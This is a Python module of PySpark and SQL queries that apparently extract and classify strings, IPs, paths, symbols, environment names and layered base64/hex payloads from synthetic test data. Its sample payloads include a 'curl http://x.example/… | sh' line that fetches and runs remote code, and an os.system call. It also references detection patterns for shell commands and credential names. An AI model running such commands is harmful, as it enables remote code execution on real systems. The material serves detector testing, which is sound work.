"""Fact extraction queries."""

from __future__ import annotations

from pyspark.sql import functions as F

from ruleloom import constants as K
from ruleloom.functions import ids, text as T
from ruleloom.operators import decode, extract
from ruleloom.plans.registry import SQL_IS_URL, SQL_URLS, query, view
from ruleloom.plans.tables import (
    env_strings, files, path_strings, pick, sections, sql_list, sql_pick, sql_text, symbols,
)
from ruleloom.sources.tables import read_table


def q(pattern: str) -> str:
    """A pattern as an SQL literal."""
    return sql_text(pattern)


def any_like(value: str, parts) -> str:
    return "(" + " OR ".join(f"contains({value}, {q(p)})" for p in parts) + ")"


def any_start(value: str, parts) -> str:
    return "(" + " OR ".join(f"starts_with({value}, {q(p)})" for p in parts) + ")"


def any_end(value: str, parts) -> str:
    return "(" + " OR ".join(f"ends_with({value}, {q(p)})" for p in parts) + ")"


# Matches with byte offsets: pieces between matches and the matches add up to the place.
def sql_spans(source: str, column: str, pattern: str, key: str) -> str:
    return f"""
SELECT {key}, hits[i] AS value,
       CAST(coalesce(list_sum(list_transform(pieces[1:i], lambda x: strlen(x))), 0)
         + coalesce(list_sum(list_transform(hits[1:i - 1], lambda x: strlen(x))), 0) AS BIGINT) AS "offset"
FROM (SELECT {key}, pieces, hits, unnest(generate_series(1, len(hits))) AS i
      FROM (SELECT {key}, regexp_split_to_array({column}, {q(pattern)}) AS pieces,
                   regexp_extract_all({column}, {q(pattern)}) AS hits FROM {source}))"""


view("quoted", sql_spans("files", "text", K.QUOTED_RE, "file_id"), "files")


@query("ext1_quoted_strings", """
SELECT file_id, substr(value, 2, length(value) - 2) AS value, "offset" + 1 AS "offset"
FROM quoted WHERE length(value) > 2""", "quoted")
def quoted_strings(spark, sf_dir):
    return extract.quoted_strings(files(spark, sf_dir))


FIRST_IP = f"regexp_extract(value, {q(K.IP_RE)})"
SQL_REAL_IP = f"""({FIRST_IP} <> '' AND NOT regexp_matches(value, {q(K.VERSION_IP_RE)})
  AND list_bool_and(list_transform(string_split({FIRST_IP}, '.'), lambda o: CAST(o AS INTEGER) <= 255)))"""
SQL_IS_PATH = r"""(starts_with(value, '/') OR (strlen(value) > 3 AND substr(value, 2, 2) = ':\')
  OR (regexp_matches(value, '[/\\]') AND NOT contains(value, ' ')
      AND regexp_matches(value, '/bin/|/usr/|/etc/|/tmp/|/var/|C:\\|Program')))"""
SQL_KIND = f"""CASE WHEN regexp_matches(value, {q(SQL_IS_URL)}) THEN 'url' WHEN {SQL_REAL_IP} THEN 'ip'
  WHEN regexp_matches(value, {q(K.EMAIL_RE)}) THEN 'email' WHEN {SQL_IS_PATH} THEN 'path'
  WHEN strlen(value) >= 16 AND regexp_matches(value, {q(K.BASE64_RE)}) THEN 'base64' ELSE 'const' END"""
SQL_NORM = r"regexp_replace({}, '^(sym\.imp\.)*(sym\.)*(fcn\.)*_*', '')"

# Strings of every kind: document tokens, page addresses and path strings.
view("mixed_strings", """
SELECT file_id, value FROM doc_tokens
UNION ALL SELECT page_id + 1000000000, url FROM pages
UNION ALL SELECT file_id + 2000000000, value FROM path_strings""", "doc_tokens", "path_strings")


def mixed_strings(spark, sf_dir):
    toks = files(spark, sf_dir).select("file_id", F.explode(T.tokens(F.col("text"))).alias("value"))
    urls = read_table(spark, sf_dir, "pages").select((F.col("page_id") + 1000000000).alias("file_id"), F.col("url").alias("value"))
    paths = path_strings(spark, sf_dir).withColumn("file_id", F.col("file_id") + 2000000000)
    return toks.unionByName(urls).unionByName(paths)


@query("ext2_string_kind", f"""
SELECT string_type, count(*) AS n, count(DISTINCT value) AS n_distinct FROM (
  SELECT m.value, coalesce(s.symbol_kind, {SQL_KIND.replace('value', 'm.value')}) AS string_type
  FROM (SELECT *, {SQL_NORM.format('value')} AS norm FROM mixed_strings
        UNION ALL SELECT file_id, p_brand, p_brand FROM symbols JOIN part ON replace(p_name, ' ', '_') = symbol WHERE p_partkey < 0
        UNION ALL SELECT file_id, symbol, {SQL_NORM.format('symbol')} FROM symbols) m
  LEFT JOIN (SELECT file_id, {SQL_NORM.format('symbol')} AS norm, max(kind) AS symbol_kind FROM symbols GROUP BY 1, 2) s
    USING (file_id, norm)) GROUP BY 1""", "mixed_strings symbols")
def string_kind(spark, sf_dir):
    syms = symbols(spark, sf_dir)
    strings = mixed_strings(spark, sf_dir).unionByName(syms.select("file_id", F.col("symbol").alias("value")))
    kinds = extract.classify_strings(strings, syms)
    return kinds.groupBy("string_type").agg(F.count("*").alias("n"), F.countDistinct("value").alias("n_distinct"))


@query("ext3_strings_min_length", """
SELECT file_id, value FROM doc_tokens WHERE strlen(value) >= 24""", "doc_tokens")
def strings_min_length(spark, sf_dir):
    toks = files(spark, sf_dir).select("file_id", F.explode(T.tokens(F.col("text"))).alias("value"))
    return extract.list_strings(toks, 24)


@query("ext4_symbol_listing", """
SELECT file_id, kind, symbol, library, "offset", source FROM symbols""", "symbols")
def symbol_listing(spark, sf_dir):
    syms = symbols(spark, sf_dir).drop("file_type")
    return extract.list_symbols(*[syms.filter(F.col("kind") == k) for k in ("import", "export", "function")])


@query("ext5_section_listing", """
SELECT file_id, name, "start", size, round(entropy, 4) AS entropy FROM sections ORDER BY file_id, "start" """, "sections")
def section_listing(spark, sf_dir):
    return sections(spark, sf_dir).select(
        "file_id", "name", "start", "size", F.round("entropy", 4).alias("entropy")
    ).orderBy("file_id", "start")


@query("ext7_urls", f"""
SELECT page_id, unnest(regexp_extract_all(url || ' ' || html, {q(SQL_URLS)})) AS value FROM pages""")
def urls(spark, sf_dir):
    pages = read_table(spark, sf_dir, "pages").select("page_id", F.concat_ws(" ", "url", "html").alias("body"))
    return extract.urls(pages, "body")


view("doc_ips", f"""
SELECT file_id, unnest(regexp_extract_all(text, {q(K.IP_WORD_RE)})) AS value FROM files""", "files")
SQL_OCTETS_OK = "list_bool_and(list_transform(string_split(value, '.'), lambda o: CAST(o AS INTEGER) <= 255))"


@query("ext8_ipv4", f"""
SELECT file_id, value FROM doc_ips WHERE {SQL_OCTETS_OK} AND value NOT IN ('0.0.0.0', '127.0.0.1')""", "doc_ips")
def ipv4(spark, sf_dir):
    return extract.ipv4(files(spark, sf_dir).select("file_id", "text"), "text")


@query("ext9_paths", f"""
SELECT page_id, value FROM (
  SELECT page_id, unnest(regexp_extract_all(html, {q(K.SCRIPT_PATH_RE)})) AS value FROM pages) WHERE strlen(value) > 3""")
def paths(spark, sf_dir):
    return extract.paths_in(read_table(spark, sf_dir, "pages").select("page_id", "html"), "html")


IP_WRAPS = ("", "Chrome/", "host=", "v/", "MSIE/")
view("ip_strings", f"""
SELECT user_id AS file_id, {sql_pick('event_id', IP_WRAPS)} || (event_id % 300) || '.' || (event_id % 7) || '.'
       || (user_id % 256) || '.' || (event_id % 11) AS value FROM events""")


def ip_strings(spark, sf_dir):
    ev = read_table(spark, sf_dir, "events").select("event_id", "user_id")
    e, u = F.col("event_id"), F.col("user_id")
    quad = F.concat_ws(".", *[x.cast("string") for x in (e % 300, e % 7, u % 256, e % 11)])
    return ev.select(u.alias("file_id"), F.concat(pick(e, IP_WRAPS), quad).alias("value"))


@query("ext10_real_ip", f"SELECT file_id, value, {SQL_REAL_IP} AS is_ip FROM ip_strings", "ip_strings")
def real_ip(spark, sf_dir):
    return ip_strings(spark, sf_dir).select("file_id", "value", T.is_real_ip(F.col("value")).alias("is_ip"))


@query("ext11_path_shape", f"SELECT file_id, value, {SQL_IS_PATH} AS is_path FROM path_strings", "path_strings")
def path_shape(spark, sf_dir):
    return path_strings(spark, sf_dir).select("file_id", "value", T.is_path_shaped(F.col("value")).alias("is_path"))


@query("ext12_symbol_normalize", f"""
SELECT file_id, symbol, {SQL_NORM.format('symbol')} AS norm FROM symbols""", "symbols")
def symbol_normalize(spark, sf_dir):
    return symbols(spark, sf_dir).select("file_id", "symbol", T.normalize_symbol(F.col("symbol")).alias("norm"))


# -- encoded payloads -------------------------------------------------------------------

PAYLOADS = (
    "import os; os.system('id')  # {}", "plain words of no interest at all {}", "curl http://x.example/{} | sh please",
    "visit https://site.example/{}/index.html", "SELECT a FROM b WHERE c = {} AND d", "const x = {}; function go() {{}}",
    "a rather short {}", "#!/bin/sh\necho {} and some more text here",
)


def encoded_strings(spark, sf_dir):
    """Part rows as payloads under zero to three layers of encoding."""
    part = read_table(spark, sf_dir, "part").select("p_partkey", "p_size")
    key = F.col("p_partkey")
    halves = [p.split("{}") for p in PAYLOADS]
    plain = F.concat(
        pick(key, [h[0].replace("{{", "{").replace("}}", "}") for h in halves]),
        key.cast("string"),
        pick(key, [h[1].replace("{{", "{").replace("}}", "}") for h in halves]),
    )

    def b64_of(s):
        return F.regexp_replace(F.base64(s.cast("binary")), r"\s", "")

    # Hex of an even number of bytes also reads as base64, which is tried first, so
    # the hex layers here hold an odd number.
    kind = F.floor(key / 8) % 6
    plain = F.concat(plain, F.when((kind == 2) & (F.octet_length(plain) % 2 == 0), " ").otherwise(""))
    b64 = b64_of(plain)
    odd = F.concat(b64, F.lit("\n"))
    value = (
        F.when(kind == 0, plain)
        .when(kind == 1, b64)
        .when(kind == 2, F.hex(plain))
        .when(kind == 3, b64_of(b64))
        .when(kind == 4, F.lower(F.hex(odd)))
        .otherwise(b64_of(F.hex(odd)))
    )
    return part.select((key % 97).alias("file_id"), (key * 64).alias("offset"), value.alias("value"), plain.alias("plain"))


_halves = [p.split("{}") for p in PAYLOADS]
SQL_PLAIN = (
    sql_pick("p_partkey", [h[0].replace("{{", "{").replace("}}", "}") for h in _halves]) + " || p_partkey || "
    + sql_pick("p_partkey", [h[1].replace("{{", "{").replace("}}", "}") for h in _halves])
).replace("\n", "' || chr(10) || '")
# The check knows the plain text and the layers, so it needs no decoder.
view("payload_truth", f"""
SELECT *, CASE WHEN first_ok THEN full_chain END AS chain FROM (
  SELECT p_partkey, p_partkey % 97 AS file_id, p_partkey * 64 AS "offset", plain AS value,
         list_extract(['', 'base64', 'hex', 'base64-base64', 'hex-base64', 'base64-hex-base64'], CAST(kind AS INT) + 1) AS full_chain,
         CASE kind WHEN 0 THEN 0 WHEN 1 THEN 1 WHEN 2 THEN 1 WHEN 3 THEN 2 WHEN 4 THEN 2 ELSE 3 END AS depth,
         strlen(plain) AS n, ceil(strlen(plain) / 3.0) * 4 AS n64,
         CASE kind WHEN 0 THEN FALSE WHEN 1 THEN n64 >= 24 WHEN 2 THEN 2 * n >= 48
              WHEN 3 THEN n64 >= 24 WHEN 4 THEN n64 >= 24 ELSE n64 >= 24 END AS first_ok
  FROM (SELECT p_partkey, kind, p || CASE WHEN kind = 2 AND strlen(p) % 2 = 0 THEN ' ' ELSE '' END AS plain
        FROM (SELECT p_partkey, {SQL_PLAIN} AS p, (p_partkey // 8) % 6 AS kind FROM part)))""")


@query("ext13_base64_decode", """
SELECT file_id, "offset", value FROM payload_truth WHERE depth = 1 AND full_chain = 'base64'
  AND len(regexp_extract_all(value, '[ -~]')) / strlen(value) > 0.7 AND strlen(value) >= 10""", "payload_truth")
def base64_decode(spark, sf_dir):
    kind = F.floor(F.col("offset") / 64 / 8) % 6
    once = encoded_strings(spark, sf_dir).filter(kind == 1).drop("plain")
    return decode.base64_strings(once, "value").drop("encoded")


# What each layer gives, from the plain text inwards out.
view("layer_truth", """
SELECT file_id, "offset", unnest([{'depth': 1, 'chain': split_part(full_chain, '-', 1), 'value': CASE full_chain
    WHEN 'base64' THEN value WHEN 'hex' THEN value WHEN 'base64-base64' THEN b64 WHEN 'hex-base64' THEN b64 || chr(10) ELSE hex(encode(b64 || chr(10))) END},
  {'depth': 2, 'chain': replace(substr(full_chain, 1, CASE depth WHEN 3 THEN 10 ELSE 99 END), '-', '+'), 'value': CASE WHEN depth = 3 THEN b64 || chr(10) WHEN depth = 2 THEN value END},
  {'depth': 3, 'chain': replace(full_chain, '-', '+'), 'value': CASE WHEN depth = 3 THEN value END}]) AS layer
FROM (SELECT *, base64(encode(value)) AS b64 FROM payload_truth WHERE depth > 0 AND first_ok)""", "payload_truth")


@query("ext14_decode_layers", """
SELECT file_id, "offset", layer.depth, layer.chain, layer.value, CAST(strlen(layer.value) AS BIGINT) AS n_bytes FROM layer_truth WHERE layer.value IS NOT NULL""", "layer_truth")
def decode_layers(spark, sf_dir):
    layers = decode.decode_layers(encoded_strings(spark, sf_dir).drop("plain"))
    return layers.select("file_id", "offset", "depth", F.array_join("chain", "+").alias("chain"), "value", "n_bytes")


def payloads(spark, sf_dir):
    return decode.payloads(encoded_strings(spark, sf_dir).drop("plain"))


view("payloads_sql", """
SELECT file_id, "offset", value, full_chain AS chain, depth FROM payload_truth
WHERE depth > 0 AND CASE depth WHEN 1 THEN n >= 24 ELSE TRUE END AND first_ok""", "payload_truth")


@query("ext15_payload_records", """
SELECT file_id, "offset", chain, replace(replace(substr(value, 1, 40), chr(10), ' '), chr(13), '') AS preview
FROM payloads_sql""", "payloads_sql")
def payload_records(spark, sf_dir):
    return payloads(spark, sf_dir).select("file_id", "offset", F.array_join("chain", "-").alias("chain"), "preview")


SQL_SCRIPT = f"({any_like('value', K.SCRIPT_MARKERS)} OR {any_start('value', K.SCRIPT_SHEBANGS)})"
SQL_SHELL = any_like("lower(value)", K.SHELL_MARKERS)
SQL_SQL = "(" + " + ".join(f"contains(upper(value), {q(p)})::INT" for p in K.SQL_MARKERS) + ") >= 2"


@query("ext16_payload_class", f"""
SELECT file_id, "offset", CASE WHEN starts_with(hex(encode(value)), '4D5A') THEN 3 WHEN {SQL_SHELL} OR {SQL_SQL} THEN 3
  WHEN {SQL_SCRIPT} THEN 2 WHEN ({SQL_KIND}) IN ('url', 'ip', 'email') THEN 1 ELSE 2 END AS crit
FROM payloads_sql""", "payloads_sql")
def payload_class(spark, sf_dir):
    return payloads(spark, sf_dir).select(
        "file_id", "offset", decode.payload_crit(F.col("value"), F.col("head_hex")).alias("crit")
    )


view("doc_and_payload_text", """
SELECT p_partkey AS file_id, value FROM payload_truth
UNION ALL SELECT file_id + 1000000000, text FROM files""", "payload_truth", "files")


@query("ext17_script_text", f"SELECT file_id, {SQL_SCRIPT} AS is_script FROM doc_and_payload_text", "doc_and_payload_text")
def script_text(spark, sf_dir):
    plain = encoded_strings(spark, sf_dir).select((F.col("offset") / 64).cast("bigint").alias("file_id"), F.col("plain").alias("value"))
    docs = files(spark, sf_dir).select((F.col("file_id") + 1000000000).alias("file_id"), F.col("text").alias("value"))
    return plain.unionByName(docs).select("file_id", T.is_script_text(F.col("value")).alias("is_script"))


@query("ext18_layer_path", """
SELECT "offset", 'part/' || file_id || '!!m' || "offset" || '##' || replace(chain, '-', '+') AS path FROM payloads_sql""",
       "payloads_sql")
def layer_path(spark, sf_dir):
    container = F.concat(F.lit("part/"), F.col("file_id"))
    member = ids.member_path(container, F.concat(F.lit("m"), F.col("offset")))
    return payloads(spark, sf_dir).select("offset", ids.layer_path(member, F.col("chain")).alias("path"))


@query("ext19_embedded_code", f"""
SELECT file_id, "offset", value FROM (
  SELECT *, row_number() OVER (PARTITION BY file_id ORDER BY "offset", value) AS rn FROM (
    SELECT p_partkey % 13 AS file_id, "offset", value FROM payload_truth
    WHERE {SQL_SCRIPT} AND strlen(value) >= CASE WHEN depth > 0 THEN 20 ELSE 50 END)) WHERE rn <= 100""", "payload_truth")
def embedded_code(spark, sf_dir):
    plain = encoded_strings(spark, sf_dir)
    kind = F.floor(F.col("offset") / 64 / 8) % 6
    chain = F.when(kind == 0, F.array().cast("array<string>")).otherwise(F.array(F.lit("base64")))
    strings = plain.select(
        ((F.col("offset") / 64).cast("bigint") % 13).alias("file_id"), "offset", F.col("plain").alias("value"),
        chain.alias("encoding_chain"),
    )
    return extract.embedded_code_candidates(strings).select("file_id", "offset", "value")


# -- environment names, paths, imports, scripts, comments -----------------------------------

SQL_CRED = f"""(({any_start('value', K.CREDENTIAL_PREFIXES)} AND ({any_end('value', K.CREDENTIAL_SUFFIXES)}
  OR {any_like('value', K.CREDENTIAL_PARTS)})) OR list_contains({sql_list(K.CREDENTIAL_NAMES)}, value))"""
SQL_KNOWN_ENV = f"(list_contains({sql_list(K.KNOWN_ENV)}, value) OR {any_start('value', K.KNOWN_ENV_PREFIXES)})"
SQL_ENV_CATEGORY = f"CASE WHEN {SQL_CRED} THEN 'credential'" + "".join(
    f" WHEN list_contains({sql_list(ex or ('',))}, value)"
    + (f" OR {any_start('value', pre)}" if pre else "") + f" THEN '{cat}'"
    for cat, ex, pre in K.ENV_CATEGORIES
) + " WHEN regexp_matches(value, 'proxy|PROXY') THEN 'network' ELSE 'other' END"


@query("ext20_env_vars", f"""
SELECT file_id, value, count(*) AS n FROM env_strings WHERE {SQL_KNOWN_ENV} GROUP BY ALL""", "env_strings")
def env_vars(spark, sf_dir):
    return extract.env_vars(env_strings(spark, sf_dir)).groupBy("file_id", "value").agg(F.count("*").alias("n"))


@query("ext21_env_category", f"""
SELECT value, {SQL_ENV_CATEGORY} AS category, count(*) AS n FROM env_strings GROUP BY ALL""", "env_strings")
def env_category(spark, sf_dir):
    return env_strings(spark, sf_dir).groupBy("value", extract.env_category(F.col("value")).alias("category")).agg(
        F.count("*").alias("n")
    )


SQL_PATH_TYPE = r"""CASE WHEN regexp_matches(path, '%s|%d|\$\{|\$HOME') THEN 'dynamic'
  WHEN starts_with(path, './') OR starts_with(path, '../') OR contains(path, '/../') THEN 'relative' ELSE 'absolute' END"""
_cat_tests = []
for _cat, _pre, _suf, _parts, _exact in K.PATH_CATEGORIES:
    _t = [f"starts_with(path, {q(p)})" for p in _pre] + [f"ends_with(path, {q(p)})" for p in _suf]
    _t += [f"contains(path, {q(p)})" for p in _parts] + [f"path = {q(p)}" for p in _exact]
    _cat_tests.append(f"WHEN {' OR '.join(_t)} THEN '{_cat}'")
SQL_PATH_CATEGORY = r"""CASE WHEN regexp_matches(path, '^\.($|[^./]|\.($|[^/]))')
    OR (regexp_matches(path, '(^|/)\.[^/]*$') AND NOT regexp_matches(path, '(^|/)\.\.?$')) THEN 'hidden' """ + " ".join(
    _cat_tests) + " ELSE 'other' END"
view("path_facts", f"""
SELECT file_id, path, {SQL_PATH_TYPE} AS path_type, {SQL_PATH_CATEGORY} AS category
FROM (SELECT file_id, value AS path FROM path_strings WHERE ({SQL_KIND}) = 'path')""", "path_strings")


def path_facts(spark, sf_dir):
    return extract.path_facts(path_strings(spark, sf_dir))


@query("ext22_path_facts", "SELECT file_id, path FROM path_facts", "path_facts")
def path_fact_rows(spark, sf_dir):
    return path_facts(spark, sf_dir).select("file_id", "path")


@query("ext23_path_type", "SELECT path, path_type, count(*) AS n FROM path_facts GROUP BY ALL", "path_facts")
def path_type(spark, sf_dir):
    return path_facts(spark, sf_dir).groupBy("path", "path_type").agg(F.count("*").alias("n"))


@query("ext24_path_category", f"""
SELECT value, {SQL_PATH_CATEGORY.replace('path', 'value')} AS category, count(*) AS n FROM path_strings GROUP BY ALL""",
       "path_strings")
def path_category(spark, sf_dir):
    return path_strings(spark, sf_dir).groupBy("value", extract.path_category(F.col("value")).alias("category")).agg(
        F.count("*").alias("n")
    )


IMPORT_FORMS = ("os.path", "@scope/pkg", "  --Foo::Bar..baz//", "libc.so.6", "a b", "crypto/Tls", "X.", "../rel/Mod", "_priv-")
SQL_IMPORT_NAME = ("regexp_replace(regexp_replace(regexp_replace(regexp_replace(lower({0}), '^[^a-z0-9_]+', ''), "
                   "'[./][^a-z0-9_]*', '/', 'g'), '[^a-z0-9_/][^a-z0-9_]*', '-', 'g'), '[/-]$', '')")
view("import_names", f"""
SELECT l_orderkey AS file_id, {sql_pick('l_partkey', IMPORT_FORMS)} || p_name AS symbol
FROM lineitem JOIN part ON l_partkey = p_partkey""")


@query("ext25_import_names", f"""
SELECT symbol, {SQL_IMPORT_NAME.format('symbol')} AS name, count(*) AS n FROM import_names GROUP BY ALL""", "import_names")
def import_names(spark, sf_dir):
    li = read_table(spark, sf_dir, "lineitem").select("l_partkey")
    part = read_table(spark, sf_dir, "part").select("p_partkey", "p_name")
    names = li.join(part, li.l_partkey == part.p_partkey).select(
        F.concat(pick(F.col("l_partkey"), IMPORT_FORMS), F.col("p_name")).alias("symbol")
    )
    return names.groupBy("symbol", T.normalize_import_name(F.col("symbol")).alias("name")).agg(F.count("*").alias("n"))


view("eco_source", "SELECT * FROM (VALUES " + ", ".join(
    f"({q(n)}, {q(g)})" for g, ns in K.ECOSYSTEM_BY_SOURCE.items() for n in ns) + ") t(source, eco)")
view("eco_type", "SELECT * FROM (VALUES " + ", ".join(
    f"({q(n)}, {q(g)})" for g, ns in K.ECOSYSTEM_BY_TYPE.items() for n in ns) + ") t(file_type, eco)")
view("symbols_eco", """
SELECT s.*, coalesce(a.eco, b.eco, 'unknown') AS ecosystem FROM symbols s
LEFT JOIN eco_source a USING (source) LEFT JOIN eco_type b USING (file_type)""", "symbols", "eco_source", "eco_type")


@query("ext26_import_ecosystem", """
SELECT source, file_type, ecosystem, count(*) AS n FROM symbols_eco GROUP BY ALL""", "symbols_eco")
def import_ecosystem(spark, sf_dir):
    return extract.import_ecosystem(symbols(spark, sf_dir)).groupBy("source", "file_type", "ecosystem").agg(
        F.count("*").alias("n")
    )


COMMENT_STYLES = (("c", 0), ("hash", 1), ("lua", 2))
SNIPPETS = (
    'x = "// not one"; // todo: {}', "/* block {}\n two */ y", "# hash {} note", "-- lua {}", "--[[ long {}\n more ]] z",
    "a = 'it # in' # real {}", "/**/ // empty {}", "no comment {}", "// if ( x ) return var y {}", "# http://e.example/{}",
)


def commented(spark, sf_dir):
    """Three snippets per line item, so one text holds several comments."""
    li = read_table(spark, sf_dir, "lineitem").select("l_orderkey", "l_partkey", "l_linenumber", "l_suppkey")
    parts = []
    for i in range(3):
        key = F.col("l_partkey") + i * 3 + F.col("l_suppkey")
        halves = [s.split("{}") for s in SNIPPETS]
        parts.append(F.concat(pick(key, [h[0] for h in halves]), F.col("l_partkey").cast("string"), pick(key, [h[1] for h in halves])))
    return li.select(
        F.col("l_orderkey").alias("file_id"), (F.col("l_partkey") * 100 + F.col("l_suppkey")).alias("part_key"), F.concat_ws("\n", *parts).alias("text")
    )


def _sql_snippet(i: int) -> str:
    key = f"(l_partkey + {i * 3} + l_suppkey)"
    halves = [s.split("{}") for s in SNIPPETS]
    out = f"{sql_pick(key, [h[0] for h in halves])} || l_partkey || {sql_pick(key, [h[1] for h in halves])}"
    return out.replace("\n", "' || chr(10) || '")


view("commented", f"""
SELECT l_orderkey AS file_id, l_partkey * 100 + l_suppkey AS part_key,
       concat_ws(chr(10), {_sql_snippet(0)}, {_sql_snippet(1)}, {_sql_snippet(2)}) AS text FROM lineitem""")
SQL_COMMENT = {
    "c": ("^/[/*]", r"regexp_replace(regexp_replace(h, '^(//|/\*)', ''), '\*/$', '')"),
    "hash": ("^#", "substr(h, 2)"),
    "lua": ("^--", r"regexp_replace(regexp_replace(h, '^(--\[\[|--)', ''), '\]\]$', '')"),
}
view("comment_rows", " UNION ALL ".join(f"""
SELECT file_id, part_key, '{style}' AS style, unnest(list_transform(list_filter(regexp_extract_all(text,
  {q(extract.COMMENT_RE[style])}), lambda h: regexp_matches(h, '{mark}')), lambda h: {body})) AS comment
FROM commented""" for style, (mark, body) in SQL_COMMENT.items()), "commented")


@query("ext28_comments", """
SELECT style, file_id, comment, count(*) AS n FROM comment_rows GROUP BY ALL""", "comment_rows")
def comments(spark, sf_dir):
    df = commented(spark, sf_dir)
    out = None
    for style, _ in COMMENT_STYLES:
        one = extract.comments(df, "text", style).withColumn("style", F.lit(style))
        out = one if out is None else out.unionByName(one)
    return out.groupBy("style", "file_id", "comment").agg(F.count("*").alias("n"))
